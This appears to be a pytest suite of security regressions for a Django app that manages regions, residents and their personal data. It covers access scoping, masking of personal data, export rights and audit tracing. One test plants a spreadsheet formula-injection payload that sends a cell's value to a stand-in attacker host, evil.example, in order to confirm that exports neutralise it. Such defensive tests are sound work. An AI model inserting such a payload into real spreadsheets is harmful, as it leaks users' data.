"""Regressions for the security review of the foundation: each test is one way in that is closed."""

from io import BytesIO

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.exceptions import PermissionDenied
from openpyxl import load_workbook

from wanghua.core.models import AuditEntry
from wanghua.org import services
from wanghua.org.models import Person, Region, RoleAssignment


def test_a_local_grant_cannot_become_district_wide(world, make_user, client_for):
    """A secretary turning their community into a top-level district gained everything."""
    secretary = make_user("sec", "secretary", region=world.community2)
    client = client_for(secretary)
    response = client.post(f"/org/regions/{world.community2.pk}/edit/", {
        "code": "T0102", "name": "乙社区", "level": "district", "kind": "区"})
    assert response.status_code in (400, 403)
    world.community2.refresh_from_db()
    assert world.community2.parent_id == world.street1.pk
    api = client.patch(f"/api/v1/org/regions/{world.community2.pk}", {"parent_id": None},
                       content_type="application/json")
    assert api.status_code in (400, 403)
    assert not Person.objects.visible_to(secretary, "view").filter(pk=world.person3.pk).exists()


def test_a_second_root_ends_the_whole_district_shortcut(world, make_user):
    root_staff = make_user("rootstaff", "street", region=world.district)
    Region.objects.create(code="X00", name="另一区", level="district", kind="区")
    stranger = Person.objects.create(name="外区人", region=Region.objects.get(code="X00"))
    from wanghua.core.access import forget_grants

    forget_grants(root_staff)
    assert not Person.objects.visible_to(root_staff, "view").filter(pk=stranger.pk).exists()
    assert Person.objects.visible_to(root_staff, "view").filter(pk=world.person3.pk).exists()


def test_history_pages_show_personal_data_masked(world, make_user, client_for):
    agent = client_for(make_user("agent", "agent", region=world.community1))
    content_type = ContentType.objects.get_for_model(Person)
    Person.objects.filter(pk=world.person1.pk).update(title="楼长")  # an audited change with the PII around
    page = agent.get(f"/system/audit/{content_type.pk}/{world.person1.pk}/").content.decode()
    assert "13912345678" not in page and "210404199001011236" not in page
    leader = client_for(make_user("leader", "leader", region=world.district))
    export = leader.get("/system/audit/", {"format": "xlsx"})
    text = str([row for row in load_workbook(BytesIO(export.content)).active.iter_rows(values_only=True)])
    assert "13912345678" not in text and "210404199001011236" not in text


def test_edit_form_does_not_send_personal_data(world, make_user, client_for):
    client = client_for(make_user("sec", "secretary", region=world.community1))
    form = client.get(f"/org/people/{world.person1.pk}/edit/").content.decode()
    assert "13912345678" not in form and "210404199001011236" not in form and "139****5678" in form
    saved = client.post(f"/org/people/{world.person1.pk}/edit/", {
        "name": "张甲", "region": world.community1.pk, "id_number": "", "phone": "", "title": "楼长"})
    assert saved.status_code == 302
    world.person1.refresh_from_db()
    assert world.person1.phone == "13912345678" and world.person1.id_number == "210404199001011236"
    assert world.person1.title == "楼长"


def test_export_rows_follow_the_export_grant(world, make_user, client_for, roles):
    mixed = make_user("mixed", "agent", region=world.street1)  # may view the street, not export
    RoleAssignment.objects.create(user=mixed, role=roles["secretary"], region=world.community2)
    Person.objects.create(name="乙居民", region=world.community2)
    export = client_for(mixed).get("/org/people/", {"format": "xlsx"})
    names = [row[0] for row in load_workbook(BytesIO(export.content)).active.iter_rows(min_row=2, values_only=True)]
    assert names == ["乙居民"]  # 张甲 lives in 甲社区: visible, not exportable


def test_probing_an_id_number_outside_scope_is_traced(world, make_user, client_for):
    client = client_for(make_user("sec", "secretary", region=world.community3))
    response = client.post("/api/v1/org/people", {"name": "探测", "region_id": world.community3.pk,
                                                  "id_number": "210404199001011236"},
                           content_type="application/json")
    assert response.status_code == 400
    trace = AuditEntry.objects.get(action="pii_view", object_id=str(world.person1.pk))
    assert trace.actor.username == "sec" and "outside scope" in trace.note


def test_excel_export_neutralises_formulas(world, make_user, client_for):
    Person.objects.create(name='=HYPERLINK("http://evil.example/?x="&B2,"点击")', region=world.community1)
    export = client_for(make_user("leader", "leader", region=world.district)).get("/org/people/",
                                                                                 {"format": "xlsx"})
    cells = [c for row in load_workbook(BytesIO(export.content)).active.iter_rows() for c in row]
    evil = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
    assert evil.data_type == "s"


def test_history_of_a_malformed_id_is_not_found(world, make_user, client_for):
    client = client_for(make_user("st", "street", region=world.street1))
    content_type = ContentType.objects.get_for_model(Person)
    assert client.get(f"/system/audit/{content_type.pk}/abc/").status_code == 404


def test_api_docs_need_a_login(client, db):
    assert client.get("/api/v1/docs").status_code == 302
    assert client.get("/api/v1/openapi.json").status_code == 302


def test_moving_a_unit_under_a_parent_outside_scope_is_refused(world, make_user, roles):
    official = make_user("gov-staff", "department", unit=world.dept)
    RoleAssignment.objects.create(user=official, role=roles["department"], unit=world.enterprise1)
    with pytest.raises(PermissionDenied):
        services.update_unit(official, world.enterprise1.pk, parent=world.enterprise2)
    world.enterprise1.refresh_from_db()
    assert world.enterprise1.parent_id is None
